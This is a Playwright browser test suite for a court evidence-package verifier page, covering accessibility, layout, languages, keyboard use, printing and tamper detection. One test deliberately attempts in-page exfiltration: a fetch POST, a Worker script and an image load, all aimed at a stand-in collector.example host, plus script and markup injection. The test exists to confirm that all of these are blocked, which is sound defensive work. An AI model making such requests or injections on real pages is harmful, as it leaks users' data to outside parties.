// The court's page in a real browser: served by a real vault, and as the single file that works without a network. What must hold on every
// page is asked of every state: axe-core finds nothing, nothing is wider than the window, nothing is sent. Each state is drawn into the folder
// STRONGROOM_SCREENSHOTS, to be looked at by people.

import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { appendFileSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { chromium } from "playwright-core";

const root = path.resolve(import.meta.dirname, "../..");
const bin = process.env.STRONGROOM_BIN ?? path.join(root, "bin");
const pictures = process.env.STRONGROOM_SCREENSHOTS ?? path.join(root, "build", "browser");
const vectors = path.join(root, "api", "vectors", "dossier");
const singleFile = pathToFileURL(path.join(bin, "VERIFY.html")).href;
const axe = readFileSync(new URL("node_modules/axe-core/axe.min.js", import.meta.url), "utf8");
const tags = ["en", "fr", "es", "ar", "uk"];
const words = Object.fromEntries(tags.map((t) => [t, JSON.parse(readFileSync(path.join(root, "internal", "web", "words", `${t}.json`), "utf8"))]));
const genuine = { package: path.join(vectors, "genuine.zip"), trust: path.join(vectors, "one.trust.json") };

let browser, work, address, vault, court;

before(async () => {
	mkdirSync(pictures, { recursive: true });
	work = mkdtempSync(path.join(tmpdir(), "strongroom-browser-"));
	browser = await chromium.launch({
		executablePath: process.env.STRONGROOM_CHROMIUM ?? "/usr/bin/chromium",
		args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
	});
	// A real vault, with a real court's package in it: 40 MB of evidence, so that reading takes long enough to be seen.
	const evidence = path.join(work, "recording.bin");
	writeFileSync(evidence, Buffer.alloc(40 << 20, "forty megabytes of a recording "));
	const keep = path.join(work, "keep");
	execFileSync(path.join(bin, "strongroom"), ["demo", "--once", "--keep", keep, evidence], { stdio: ["ignore", "ignore", "inherit"] });
	court = { package: path.join(keep, "court", "package.zip"), trust: path.join(keep, "court", "trust.json") };
	const told = path.join(work, "address");
	vault = spawn(path.join(bin, "strongroomd"), ["serve", "--data", path.join(keep, "vault"), "--listen", "127.0.0.1:0", "--address-file", told], { stdio: "ignore" });
	for (let i = 0; !existsSync(told) || !readFileSync(told, "utf8").endsWith("\n"); i++) {
		assert.ok(i < 300, "the vault does not begin to serve");
		await new Promise((r) => setTimeout(r, 100));
	}
	address = readFileSync(told, "utf8").split("#")[0].trim();
});

after(async () => {
	await browser?.close();
	if (vault) {
		const ended = new Promise((r) => vault.once("exit", r));
		vault.kill();
		await ended;
	}
	if (work) {
		rmSync(work, { recursive: true });
	}
});

/** open gives a page, and everything that it asked of anybody and complained of. */
async function open(t, url, options = {}) {
	const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 390, height: 844 }, locale: "en-GB", ...options });
	t.after(() => context.close());
	if (options.before) {
		await options.before(context);
	}
	const page = await context.newPage();
	const asked = [], said = [];
	context.on("request", (r) => asked.push(r.url()));
	page.on("pageerror", (e) => said.push(String(e)));
	page.on("console", (m) => m.type() === "error" && said.push(m.text()));
	await page.goto(url);
	return { page, context, asked, said };
}

const served = (tag = "en") => `${address}/verify#${tag}`;

/** choose chooses files as a person's choice in the browser's own window does. */
async function choose(page, files) {
	for (const which of ["package", "trust", "previous"]) {
		if (files[which]) {
			await page.setInputFiles(`#file-${which}`, files[which]);
		}
	}
}

const press = (page, id, tag = "en") => page.getByRole("button", { name: words[tag][id], exact: true }).click();

/** judge chooses files, verifies, and returns what the page answers. */
async function judge(page, files, tag = "en") {
	await choose(page, files);
	await press(page, "verify", tag);
	await page.waitForSelector("article.verdict, h1:not(:text-is('" + words[tag].working + "')) >> nth=0", { timeout: 60_000 });
	await page.waitForFunction((working) => document.querySelector("h1")?.textContent !== working, words[tag].working, { timeout: 60_000 });
	return answer(page);
}

const answer = (page) => page.evaluate(() => ({
	verdict: document.querySelector("article.verdict")?.className.split(" ")[1],
	reasons: [...document.querySelectorAll("article > section:nth-of-type(1) ul.plain code")].flatMap((c) => {
		const [checks, reason] = /** @type {string} */ (c.textContent).split(": ");
		return checks.split(", ").map((check) => `${check}: ${reason}`);
	}),
	focus: document.activeElement?.tagName,
}));

/** sound asks of a state what must hold of all, and draws it. */
async function sound(page, name) {
	await clean(page, name);
	await fits(page, name);
}

async function clean(page, name) {
	if (!(await page.evaluate(() => "axe" in window))) {
		await page.evaluate(axe);
	}
	const found = await page.evaluate(() => window.axe.run(document, { resultTypes: ["violations"], runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"] }));
	assert.deepEqual(found.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 120)).join(" | ")}`), [], `${name}: axe-core`);
}

async function fits(page, name) {
	const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
	assert.ok(wide <= 0, `${name}: ${wide} pixels too wide`);
	const small = await page.evaluate(() => [...document.querySelectorAll("button, select, summary, footer a")].filter((e) => e.offsetParent && e.getBoundingClientRect().height < 44).map((e) => e.textContent));
	assert.deepEqual(small, [], `${name}: targets that are too small`);
	await page.screenshot({ path: path.join(pictures, `${name}.png`), fullPage: true });
}

/** cli is what strongroom-verify says of the same files. */
function cli(files) {
	const args = ["--json", "--trust", files.trust];
	if (files.previous) {
		args.push("--previous", files.previous);
	}
	try {
		return JSON.parse(execFileSync(path.join(bin, "strongroom-verify"), [...args, files.package], { maxBuffer: 1 << 28 }));
	} catch (e) {
		return JSON.parse(e.stdout); // refused and incomplete have exit codes of their own
	}
}

test("the single file answers every vector as strongroom-verify does, each refusal with its own reason", async (t) => {
	const { page, asked, said } = await open(t, singleFile);
	const list = JSON.parse(readFileSync(path.join(vectors, "vectors.json"), "utf8"));
	const seen = {};
	for (const v of list) {
		const files = { package: path.join(vectors, v.package), trust: path.join(vectors, v.trust), previous: v.previous && path.join(vectors, v.previous) };
		if (await page.locator("article.verdict").count()) {
			await press(page, "back");
		}
		if (!files.previous && await page.getByRole("button", { name: words.en["previous.drop"] }).count()) {
			await press(page, "previous.drop");
		}
		const got = await judge(page, files);
		const want = cli(files);
		const reasons = want.checks.filter((c) => c.result === "fail" || (c.result === "not_checked" && (want.verdict === "incomplete" || c.reason !== "not_reached")));
		assert.equal(got.verdict, want.verdict, v.name);
		assert.deepEqual(got.reasons.sort(), reasons.map((c) => `${c.name}: ${c.reason}`).sort(), v.name);
		seen[got.verdict] = (seen[got.verdict] ?? 0) + 1;
	}
	assert.ok(seen.verified >= 3 && seen.incomplete >= 3 && seen.refused >= 8, JSON.stringify(seen));
	assert.deepEqual(asked.filter((u) => !/^(file|blob|data):/.test(u)), [], "the single file asked for something");
	assert.ok(asked.every((u) => /^(blob|data):/.test(u) || u.split("#")[0] === singleFile));
	assert.deepEqual(said, []);
});

test("the single file checks what a vault gave its court, refuses it with one byte changed, and cannot say without a trust file", async (t) => {
	const { page, asked } = await open(t, singleFile);
	assert.deepEqual(await judge(page, court), { verdict: "verified", reasons: [], focus: "H1" });
	const changed = path.join(work, "changed.zip");
	copyFileSync(court.package, changed);
	const bytes = readFileSync(changed);
	bytes[bytes.length >> 1] ^= 1; // in the middle of the recording
	writeFileSync(changed, bytes);
	await press(page, "back");
	assert.deepEqual((await judge(page, { ...court, package: changed })).reasons, ["package: file_changed"]);
	await page.reload();
	assert.equal((await judge(page, { package: court.package })).verdict, "incomplete");
	await choose(page, { trust: court.trust }); // asked for right there, and then it is verified
	await page.waitForSelector("article.verified", { timeout: 60_000 });
	const short = path.join(work, "short.zip");
	writeFileSync(short, readFileSync(court.package).subarray(0, 5000));
	await press(page, "back");
	assert.deepEqual((await judge(page, { ...court, package: short })).reasons, ["package: container"]);
	assert.deepEqual(asked.filter((u) => !/^(file|blob|data):/.test(u)), []);
});

test("neither form can send anything or run a foreign script, even if something in it tried", async (t) => {
	for (const url of [singleFile, served()]) {
		const { page, context, said } = await open(t, url);
		let left = 0;
		await context.route(/example/, (route) => (left++, route.abort()));
		const tried = await page.evaluate(async () => {
			const refused = [];
			const attempt = async (name, act) => {
				try {
					await act();
				} catch {
					refused.push(name);
				}
			};
			await attempt("fetch", () => fetch("https://collector.example/", { method: "POST", mode: "no-cors", body: "x" }));
			await attempt("markup", () => (document.body.innerHTML = "<b>x</b>"));
			await attempt("script address", () => new Worker("https://collector.example/x.js"));
			const script = document.createElement("script");
			await attempt("script text", () => (script.text = "window.ran = true"));
			script.append("window.ran = true");
			document.body.append(script);
			const image = new Image();
			document.body.append(image);
			image.src = "https://collector.example/x.png";
			await new Promise((r) => setTimeout(r, 200));
			return { refused, ran: window.ran === true, image: image.naturalWidth };
		});
		assert.deepEqual(tried, { refused: ["fetch", "markup", "script address", "script text"], ran: false, image: 0 }, url);
		assert.equal(left, 0, url);
		assert.ok(said.length >= 3, "the browser said nothing of what it stopped");
	}
});

test("served: nothing is asked of anybody once the page has its files, whatever is done with it", async (t) => {
	const { page, asked, said, context } = await open(t, served(), { acceptDownloads: true });
	await page.waitForLoadState("networkidle");
	const own = ["/verify", "/assets/style.css", "/assets/verify.js", "/assets/build.js", "/assets/builds.js", "/assets/dom.js", "/assets/engine.js", "/assets/program.js", "/assets/language.js", "/assets/words.js",
		"/assets/verdict.js", "/assets/worker.js", "/assets/wasm_exec.js", "/assets/verify.wasm"];
	for (const url of asked) {
		assert.ok(url.startsWith("data:") || url.startsWith(address) && own.includes(new URL(url).pathname), url);
	}
	assert.ok(asked.some((u) => u.endsWith("/assets/verify.wasm")));
	const before = asked.length;
	await judge(page, genuine);
	for (const tag of tags) {
		await page.selectOption("#language", tag);
		await page.waitForSelector(`article[lang="${tag}"]`);
	}
	const [file] = await Promise.all([page.waitForEvent("download"), press(page, "save", "uk")]);
	await file.saveAs(path.join(work, "report.html"));
	await press(page, "back", "uk");
	await page.selectOption("#language", "en");
	await judge(page, { ...genuine, package: path.join(vectors, "evidence-replaced.zip") });
	assert.deepEqual(asked.slice(before).filter((u) => !u.startsWith("blob:") && !u.startsWith("data:")), []);
	assert.deepEqual(await context.cookies(), []);
	assert.deepEqual(await page.evaluate(async () => [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length, (await caches.keys()).length]), [0, 0, 0, 0]);
	assert.deepEqual(said, []);

	const saved = await open(t, pathToFileURL(path.join(work, "report.html")).href, { javaScriptEnabled: true });
	assert.equal(await saved.page.locator("h1").textContent(), "Перевірено");
	assert.equal(await saved.page.locator("script, button").count(), 0);
	assert.equal(await saved.page.locator("ol > li:visible").count(), 9 + 11);
	await sound(saved.page, "report-saved-uk");
});

test("every language, on a small telephone and a larger one: complete, in its direction, and sound in each state", async (t) => {
	for (const tag of tags) {
		const { page } = await open(t, served(tag));
		const both = async (name) => {
			for (const width of [320, 390]) {
				await page.setViewportSize({ width, height: 740 });
				await fits(page, `${name}-${tag}-${width}`);
			}
			await clean(page, `${name}-${tag}`);
		};
		assert.deepEqual(await page.evaluate(() => [document.documentElement.lang, document.documentElement.dir, document.title]), [tag, tag === "ar" ? "rtl" : "ltr", words[tag].title]);
		await both("form");
		await judge(page, genuine, tag);
		await page.locator("summary").evaluateAll((all) => all.forEach((s) => s.click()));
		await both("verified");
		if (tag === "ar" || tag === "uk") {
			const foreign = await page.evaluate(() => {
				const copy = document.querySelector("main").cloneNode(true);
				copy.querySelectorAll("bdi, code").forEach((e) => e.remove());
				return copy.textContent.replace(/(act|con|itm|org|gra)-[a-z2-7]{26}/g, "").match(/\p{Script=Latin}{2,}/gu);
			});
			assert.deepEqual([...new Set(foreign)].filter((w) => !["UTC", "SHA", "DE", "README", "html"].includes(w)), [], `${tag}: words of another language`);
		}
		await press(page, "back", tag);
		await judge(page, { ...genuine, package: path.join(vectors, "statement-changed.zip") }, tag);
		await both("refused");
	}
});

test("every other state is sound, in light and in dark", async (t) => {
	for (const colorScheme of ["light", "dark"]) {
		const { page } = await open(t, served(), { colorScheme, viewport: { width: 1280, height: 900 } });
		const draw = (name) => sound(page, `${name}-${colorScheme}`);
		const next = async (files, name) => {
			await judge(page, files);
			await draw(name);
			await press(page, "back");
		};
		await draw("form");
		await next({ package: genuine.package }, "incomplete-trust");
		await choose(page, { trust: genuine.trust, previous: genuine.package });
		await draw("form-chosen");
		await press(page, "previous.drop");
		await next(genuine, "verified");
		await next({ package: path.join(vectors, "last-event-omitted.zip") }, "refused");
		await next({ package: path.join(vectors, "newer-field.zip"), trust: path.join(vectors, "three.trust.json") }, "incomplete-newer");
		await judge(page, { trust: path.join(root, "LICENSE") });
		assert.equal(await page.title(), "Error: Verify a package");
		assert.equal(await page.evaluate(() => document.activeElement.className), "problem");
		await draw("problem-trust");
		await judge(page, { ...genuine, package: path.join(root, "LICENSE") });
		assert.equal(await page.textContent("h1"), "This is not a package");
		await draw("unread");
		await page.goto(`${address}/elsewhere`);
		await draw("nowhere");
	}
});

test("a package that takes its time: progress, stop, and again", async (t) => {
	const { page } = await open(t, served());
	await choose(page, court);
	await press(page, "verify");
	await page.waitForFunction(() => document.querySelector("progress")?.hasAttribute("value") && Number(document.querySelector("progress").value) > 0.1);
	assert.match(await page.textContent("#how-far"), /^\d.* of 4\d(\.\d)? MB read$/);
	await page.screenshot({ path: path.join(pictures, "working.png") });
	const [stopped] = page.workers();
	const ended = new Promise((r) => stopped.once("close", r));
	await press(page, "stop");
	assert.equal(await page.textContent("h1"), "Verify a package");
	await Promise.race([ended, page.waitForTimeout(5000).then(() => assert.fail("what was stopped goes on"))]);
	assert.equal((await judge(page, {})).verdict, "verified");
	await press(page, "back");
	await press(page, "verify");
	await page.waitForSelector("progress");
	await sound(page, "working-sound");
});

test("a file that is changed while it is open is not judged", async (t) => {
	const { page } = await open(t, served());
	const moving = path.join(work, "moving.zip");
	copyFileSync(genuine.package, moving);
	await choose(page, { ...genuine, package: moving });
	await new Promise((r) => setTimeout(r, 50));
	appendFileSync(moving, "more");
	await judge(page, {});
	assert.equal(await page.textContent(".problem p"), words.en["problem.file"]);
});

test("by keyboard alone", async (t) => {
	const { page } = await open(t, served());
	const choosers = [];
	page.on("filechooser", (c) => choosers.push(c));
	const visible = () => page.evaluate(() => {
		const s = getComputedStyle(document.activeElement);
		const r = document.activeElement.getBoundingClientRect();
		return s.outlineStyle === "solid" && s.outlineWidth === "3px" && s.boxShadow !== "none" && r.bottom > 0 && r.top < innerHeight;
	});
	const name = () => page.evaluate(() => document.activeElement.id || document.activeElement.textContent.trim());
	/** reach goes on by Tab to what has a name; everything on the way shows that it has the focus. */
	const reach = async (wanted) => {
		for (let i = 0; i < 30; i++) {
			await page.keyboard.press("Tab");
			assert.ok(await visible(), `no focus to be seen on ${await name()}`);
			if ((await name()) === wanted) {
				return;
			}
		}
		assert.fail(`${wanted} is not reached`);
	};
	const pick = async (button, file) => {
		await reach(button);
		const before = choosers.length;
		await page.keyboard.press("Enter");
		for (let i = 0; choosers.length === before && i < 100; i++) {
			await page.waitForTimeout(50);
		}
		assert.equal(choosers.length, before + 1, `${button} opens nothing`);
		await choosers.at(-1).setFiles(file);
		await page.waitForFunction((f) => document.body.textContent.includes(f), path.basename(file));
	};
	await page.keyboard.press("Tab");
	assert.equal(await name(), words.en.skip);
	await page.keyboard.press("Enter");
	assert.equal(await page.evaluate(() => document.activeElement.tagName), "H1");
	await pick("choose-package", genuine.package);
	assert.equal(await name(), words.en.verify); // the next thing to do has the focus
	await page.evaluate(() => document.querySelector("h1").focus());
	await pick("choose-trust", genuine.trust);
	await page.keyboard.press("Enter");
	await page.waitForSelector("article.verified", { timeout: 60_000 });
	assert.equal(await page.evaluate(() => document.activeElement.textContent), "Verified");
	await reach("Timeline, 9 steps");
	await page.keyboard.press("Enter");
	assert.ok(await page.locator(".timeline li").first().isVisible());
	await reach("11 checks");
	await page.keyboard.press("Space");
	assert.ok(await page.locator(".checks li").first().isVisible());
	await page.keyboard.press("Shift+Tab");
	await page.evaluate(() => document.querySelector("h1").focus());
	await reach(words.en.back);
	await page.keyboard.press("Enter");
	assert.equal(await page.evaluate(() => document.activeElement.textContent), words.en.title);
});

test("dropped together, package and trust file find their places", async (t) => {
	const { page } = await open(t, served());
	const files = [genuine.package, genuine.trust].map((f) => ({ name: path.basename(f), data: readFileSync(f).toString("base64") }));
	await page.evaluate((files) => {
		const data = new DataTransfer();
		for (const f of files) {
			data.items.add(new File([Uint8Array.from(atob(f.data), (c) => c.charCodeAt(0))], f.name));
		}
		document.body.dispatchEvent(new DragEvent("dragover", { dataTransfer: data, bubbles: true, cancelable: true }));
		document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
	}, files);
	assert.equal(await page.locator(".picked").count(), 2);
	assert.equal((await judge(page, {})).verdict, "verified");
});

test("without scripts, without WebAssembly, without a verifier: said plainly", async (t) => {
	const plain = await open(t, served(), { javaScriptEnabled: false });
	assert.equal(await plain.page.locator("noscript p:visible").count(), tags.length);
	await plain.page.screenshot({ path: path.join(pictures, "noscript.png"), fullPage: true });
	for (const url of [served("ar"), `${singleFile}#ar`]) {
		const blocked = await open(t, url, { before: (c) => c.addInitScript(() => delete globalThis.WebAssembly) });
		await blocked.page.waitForSelector(`h1:text-is("${words.ar["missing.wasm"]}")`);
		await sound(blocked.page, url === singleFile ? "missing-wasm-file" : "missing-wasm");
	}
	const bare = await open(t, served(), { before: (c) => c.route("**/verify.wasm", (r) => r.fulfill({ status: 404 })) });
	await bare.page.waitForSelector(`h1:text-is("${words.en["missing.verifier"]}")`);
	await sound(bare.page, "missing-verifier");
	const cut = await open(t, served(), { before: (c) => c.route("**/verify.wasm", (r) => r.abort()) });
	await judge(cut.page, genuine);
	assert.equal(await cut.page.textContent(".problem p"), words.en["problem.network"]);
});

test("on paper everything is open, and black on white", async (t) => {
	const { page } = await open(t, served(), { colorScheme: "dark", viewport: { width: 794, height: 1123 } });
	await judge(page, { ...genuine, package: path.join(vectors, "evidence-replaced.zip") });
	await page.evaluate(() => (window.print = () => dispatchEvent(new Event("beforeprint"))));
	await press(page, "print");
	await page.emulateMedia({ media: "print" });
	assert.equal(await page.locator("details:not([open])").count(), 0);
	assert.ok(!(await page.locator("header, footer, button").first().isVisible()));
	assert.deepEqual(await page.evaluate(() => [getComputedStyle(document.documentElement).backgroundColor, getComputedStyle(document.querySelector(".sentence")).color]), ["rgb(255, 255, 255)", "rgb(0, 0, 0)"]);
	await page.screenshot({ path: path.join(pictures, "print.png"), fullPage: true });
	await page.pdf({ path: path.join(pictures, "print.pdf"), preferCSSPageSize: true, format: "A4" });
});
